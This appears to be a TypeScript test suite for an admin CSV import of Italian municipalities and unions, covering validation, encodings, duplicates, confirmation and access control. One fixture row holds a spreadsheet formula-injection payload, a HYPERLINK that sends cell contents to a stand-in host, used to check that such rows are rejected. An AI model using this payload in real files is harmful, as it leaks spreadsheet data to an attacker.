// CSV import of organizations: all or nothing, a per-row report for malformed, duplicate and
// hostile rows, an explicit confirmation to import only the good rows, and wrong encodings.
import { db } from "~/lib/db.server.ts";
import { i18nFor } from "~/lib/i18n/i18n.ts";
import { action as importAction } from "~/routes/admin.organizations.import.tsx";
import { createUser, sessionCookieFor } from "../helpers/fixtures.ts";
import { BASE_URL, call, formRequest } from "../helpers/requests.ts";

let adminCookie: string;

beforeAll(async () => {
  const admin = await createUser({ role: "ADMIN" });
  adminCookie = await sessionCookieFor(admin.id);
  await db.organization.create({ data: { name: "Unione già registrata", kind: "UNION", ipaCode: "u_stored" } });
  await db.organization.create({ data: { name: "Comune già registrato", kind: "MUNICIPALITY", ipaCode: "c_stored" } });
});

function upload(content: string | Uint8Array, options: { cookie?: string; name?: string } = {}) {
  const form = new FormData();
  form.set("intent", "analyse");
  form.set("file", new File([content as BlobPart], options.name ?? "enti.csv", { type: "text/csv" }));
  return call(importAction, new Request(new URL("/admin/organizations/import", BASE_URL), { method: "POST", body: form, headers: { Cookie: options.cookie ?? adminCookie } }));
}

type Report = {
  fileError?: { key: string; values?: Record<string, string> };
  encoding?: string;
  badRows: { line: number; name: string; errors: { key: string; column?: string; values?: Record<string, string> }[] }[];
  goodCount: number;
  content: string;
  confirmMissing?: boolean;
  changedMeanwhile?: boolean;
};

const italian = i18nFor("it").t;
const count = () => db.organization.count();

describe("a clean file", () => {
  it("imports every row in one go, parents first, with a BOM and semicolons as Excel writes them", async () => {
    const csv =
      "\uFEFFname;kind;ipa_code;parent_ipa_code;province;contact_name;contact_email\r\n" +
      "Comune di Albiano;Comune;c_a158;u_cembra;tn;Anna Bianchi;anna@comune.albiano.tn.it\r\n" +
      "Unione Val di Cembra;Unione di Comuni;u_cembra;;TN;;\r\n" +
      "Comune di Segonzano;MUNICIPALITY;c_i576;u_cembra;TN;;\r\n" +
      "Comune di Giovo;comune;c_e048;u_stored;TN;;\r\n";
    const before = await count();
    const response = await upload(csv);
    expect(response.status).toBe(302);
    expect(await count()).toBe(before + 4);
    const union = await db.organization.findUniqueOrThrow({ where: { ipaCode: "u_cembra" }, include: { children: { orderBy: { name: "asc" } } } });
    expect(union.kind).toBe("UNION");
    expect(union.children.map((c) => c.name)).toEqual(["Comune di Albiano", "Comune di Segonzano"]);
    expect(await db.organization.findUniqueOrThrow({ where: { ipaCode: "c_a158" } })).toMatchObject({ province: "TN", contactEmail: "anna@comune.albiano.tn.it", contactName: "Anna Bianchi" });
    expect((await db.organization.findUniqueOrThrow({ where: { ipaCode: "c_e048" }, include: { parent: true } })).parent?.ipaCode).toBe("u_stored");
    expect(await db.auditLog.count({ where: { action: "organization.import" } })).toBe(1);
  });

  it("reads a Windows-1252 file (Excel's CSV) and keeps the accented letters", async () => {
    // "Comunità della Valle di Non" and "Città" in Windows-1252: à is 0xE0.
    const bytes = Uint8Array.from([
      ...Buffer.from("name,kind,ipa_code\n", "ascii"),
      ...Buffer.from("Comunit", "ascii"), 0xe0, ...Buffer.from(" della Valle di Non,Comunit", "ascii"), 0xe0, ...Buffer.from(" di valle,cv_non\n", "ascii"),
      ...Buffer.from("Citt", "ascii"), 0xe0, ...Buffer.from(" di Prova,Comune,c_citta\n", "ascii"),
    ]);
    const response = await upload(bytes);
    expect(response.status).toBe(302);
    expect((await db.organization.findUniqueOrThrow({ where: { ipaCode: "cv_non" } })).name).toBe("Comunità della Valle di Non");
    expect((await db.organization.findUniqueOrThrow({ where: { ipaCode: "cv_non" } })).kind).toBe("VALLEY_COMMUNITY");
    expect((await db.organization.findUniqueOrThrow({ where: { ipaCode: "c_citta" } })).name).toBe("Città di Prova");
  });
});

describe("a file with bad rows", () => {
  const longName = "Comune di " + "Lunghissimo".repeat(30);
  const hostile = [
    "name,kind,ipa_code,parent_ipa_code,province,contact_name,contact_email", // line 1
    "Unione Buona,UNION,u_good,,TN,,", // 2 good
    "Comune Buono,MUNICIPALITY,c_good,u_good,TN,,", // 3 good
    '=HYPERLINK("http://evil.example/?"&A1;"Clicca"),MUNICIPALITY,c_evil1,,,,', // 4 formula
    "Comune Più,MUNICIPALITY,c_evil2,,,+39 cmd,", // 5 formula (+)
    "Comune Meno,MUNICIPALITY,c_evil3,,,,-2+3@x.it", // 6 formula (-)
    "@SUM(1),MUNICIPALITY,c_evil4,,,,", // 7 formula (@)
    `${longName},MUNICIPALITY,c_long,,,,`, // 8 too long
    ",MUNICIPALITY,c_noname,,,,", // 9 missing name
    "Comune Strano,CITY,c_kind,,,,", // 10 unknown kind
    "Comune Email,MUNICIPALITY,c_mail,,,,non-una-email", // 11 bad email
    "Comune Doppio A,MUNICIPALITY,c_dup,,,,", // 12 duplicate in file
    "Comune Doppio B,MUNICIPALITY,c_dup,,,,", // 13 duplicate in file
    "Comune Esistente,MUNICIPALITY,c_stored,,,,", // 14 exists in DB
    "Comune Orfano,MUNICIPALITY,c_orphan,u_missing,,,", // 15 unknown parent
    "Comune Sotto Comune,MUNICIPALITY,c_under,c_stored,,,", // 16 parent is a municipality
    "Ente Nipote,OTHER,x_grand,c_good,,,", // 17 parent is itself a child
    "Comune Corto,MUNICIPALITY", // 18 wrong number of cells
    '"Comune su\ndue righe",MUNICIPALITY,c_multi,,,,', // 19-20 one row (a quoted line break), bad: a name is one line
    "Comune Figlio di Cattivo,MUNICIPALITY,c_child_bad,u_bad,,,", // 21 parent row is bad
    "Unione Cattiva,UNION,u_bad,,Trentino,,", // 22 bad province
    "Comune Provincia,MUNICIPALITY,c_prov,,tn,,", // 23 good
  ].join("\n");

  it("imports nothing and reports every bad row with its line number and reason", async () => {
    const before = await count();
    const response = await upload(hostile);
    expect(response.status).toBe(400);
    expect(await count()).toBe(before);
    const report = (await response.json()) as Report;
    expect(report.goodCount).toBe(3);
    const byLine = new Map(report.badRows.map((row) => [row.line, row.errors.map((e) => e.key)]));
    expect([...byLine.keys()]).toEqual([4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 21, 22]);
    expect(byLine.get(4)).toContain("csv:errors.formula");
    expect(byLine.get(5)).toEqual(["csv:errors.formula"]);
    expect(byLine.get(6)).toContain("csv:errors.formula");
    expect(byLine.get(7)).toContain("csv:errors.formula");
    expect(byLine.get(8)).toEqual(["validation.tooLong"]);
    expect(byLine.get(9)).toEqual(["validation.required"]);
    expect(byLine.get(10)).toEqual(["org:validation.kind"]);
    expect(byLine.get(11)).toEqual(["validation.email"]);
    expect(byLine.get(12)).toEqual(["org:import.errors.duplicateInFile"]);
    expect(byLine.get(13)).toEqual(["org:import.errors.duplicateInFile"]);
    expect(byLine.get(14)).toEqual(["org:import.errors.ipaExists"]);
    expect(byLine.get(15)).toEqual(["org:import.errors.unknownParent"]);
    expect(byLine.get(16)).toEqual(["org:import.errors.parentIsMunicipality"]);
    expect(byLine.get(17)).toEqual(["org:import.errors.parentIsChild"]);
    expect(byLine.get(18)).toEqual(["org:import.errors.cellCount"]);
    expect(byLine.get(19)).toEqual(["requests:controlCharacters"]);
    expect(byLine.get(21)).toEqual(["org:import.errors.parentRowInvalid"]);
    expect(byLine.get(22)).toEqual(["org:validation.province"]);

    // The reasons read as plain Italian, with the values filled in.
    const say = (line: number) => report.badRows.find((row) => row.line === line)!.errors.map((e) => italian(e.key, e.values)).join(" ");
    expect(say(4)).toContain("Nella colonna name c'è una virgoletta (\") fuori posto");
    expect(say(4)).toContain('La cella della colonna name inizia con "=": le formule non sono ammesse.');
    expect(say(8)).toBe("Il testo è troppo lungo (massimo 200 caratteri).");
    expect(say(12)).toBe("Il codice IPA c_dup compare più volte nel file (righe 12, 13).");
    expect(say(14)).toBe("Il codice IPA c_stored è già usato da Comune già registrato.");
    expect(say(21)).toBe("L'ente di appartenenza è alla riga 22, che ha errori.");
    expect(say(18)).toBe("La riga ha 2 celle invece di 7.");
    // The hostile text is reported, never stored.
    expect(await db.organization.count({ where: { name: { startsWith: "=" } } })).toBe(0);
  });

  it("imports only the good rows after an explicit confirmation that resends the same content", async () => {
    const report = (await (await upload(hostile)).json()) as Report;
    const confirm = (fields: Record<string, string>) =>
      call(importAction, formRequest("/admin/organizations/import", { intent: "confirm", content: report.content, encoding: "utf-8", fileName: "enti.csv", ...fields }, { cookie: adminCookie }));
    const before = await count();

    // Without ticking the box: nothing, and the page asks for the tick.
    let response = await confirm({ expectedGoodRows: "3" });
    expect(response.status).toBe(400);
    expect(((await response.json()) as Report).confirmMissing).toBe(true);
    expect(await count()).toBe(before);

    // Confirming a different number of good rows than the file now has: nothing.
    response = await confirm({ confirm: "on", expectedGoodRows: "4" });
    expect(response.status).toBe(400);
    expect(((await response.json()) as Report).changedMeanwhile).toBe(true);
    expect(await count()).toBe(before);

    response = await confirm({ confirm: "on", expectedGoodRows: "3" });
    expect(response.status).toBe(302);
    expect(await count()).toBe(before + 3);
    const imported = await db.organization.findMany({ where: { ipaCode: { in: ["u_good", "c_good", "c_multi", "c_prov"] } }, include: { parent: true } });
    expect(imported.map((o) => o.name).sort()).toEqual(["Comune Buono", "Comune Provincia", "Unione Buona"]);
    expect(imported.find((o) => o.ipaCode === "c_good")?.parent?.ipaCode).toBe("u_good");
    // The child of the bad union stayed out with its parent.
    expect(await db.organization.count({ where: { ipaCode: { in: ["c_child_bad", "u_bad", "c_evil1", "c_dup"] } } })).toBe(0);

    // The same confirmation sent again finds the rows already there: nothing more is imported.
    response = await confirm({ confirm: "on", expectedGoodRows: "3" });
    expect(response.status).toBe(400);
    expect(await count()).toBe(before + 3);
  });
});

describe("files that cannot be read", () => {
  it.each([
    ["an empty file", "", "csv:errors.empty"],
    ["a header only", "name,kind\n", "csv:errors.noRows"],
  ])("refuses %s with a clear message", async (_label, content, key) => {
    const before = await count();
    const response = await upload(content);
    expect(response.status).toBe(400);
    expect(((await response.json()) as Report).fileError?.key).toBe(key);
    expect(await count()).toBe(before);
  });

  it("names the missing, repeated and unknown header columns instead of dashes", async () => {
    const response = await upload("nome,genere,provincia,province\nComune,Comune,TN,TN\n");
    expect(response.status).toBe(400);
    const { fileError } = (await response.json()) as { fileError: { key: string; parts: { key: string; values: Record<string, string | number> }[] } };
    const text = [italian(fileError.key), ...fileError.parts.map((part) => italian(part.key, part.values))].join(" ");
    expect(text).toContain("manca la colonna kind / tipo");
    expect(text).toContain("la colonna province / provincia compare più volte");
    expect(text).toContain('la colonna "genere" non è prevista');
    expect(text).not.toContain(": -");
  });

  it("sets aside only the row with an unclosed quote, with its line", async () => {
    const response = await upload('name,kind\n"Comune,MUNICIPALITY\nComune Dopo,MUNICIPALITY\n');
    expect(response.status).toBe(400);
    const report = (await response.json()) as Report;
    expect(report.badRows).toEqual([expect.objectContaining({ line: 2, errors: [expect.objectContaining({ key: "csv:errors.unclosedQuote" })] })]);
    expect(report.goodCount).toBe(1);
  });

  it("refuses UTF-16 and binary files", async () => {
    const utf16 = Uint8Array.from([0xff, 0xfe, ...Buffer.from("name,kind\n", "utf16le")]);
    expect(((await (await upload(utf16)).json()) as Report).fileError?.key).toBe("csv:errors.utf16");
    const binary = await upload(Uint8Array.from([0x50, 0x4b, 0x03, 0x04, 0x00, 0x00]));
    expect(binary.status).toBe(415);
    expect(((await binary.json()) as Report).fileError?.key).toBe("uploads:errors.wrongContent");
  });

  it("says when a file with bad rows was read as Windows-1252", async () => {
    const bytes = Uint8Array.from([...Buffer.from("name,kind\nCitt", "ascii"), 0xe0, ...Buffer.from(" Nuova,CITY\n", "ascii")]);
    const report = (await (await upload(bytes)).json()) as Report;
    expect(report.encoding).toBe("windows-1252");
    expect(report.badRows[0]).toMatchObject({ line: 2, name: "Città Nuova" });
  });

  it("is for admins only", async () => {
    const tutor = await createUser({ role: "TUTOR" });
    const response = await upload("name,kind\nComune Tutor,MUNICIPALITY\n", { cookie: await sessionCookieFor(tutor.id) });
    expect(response.status).toBe(403);
    expect(await db.organization.count({ where: { name: "Comune Tutor" } })).toBe(0);
  });
});
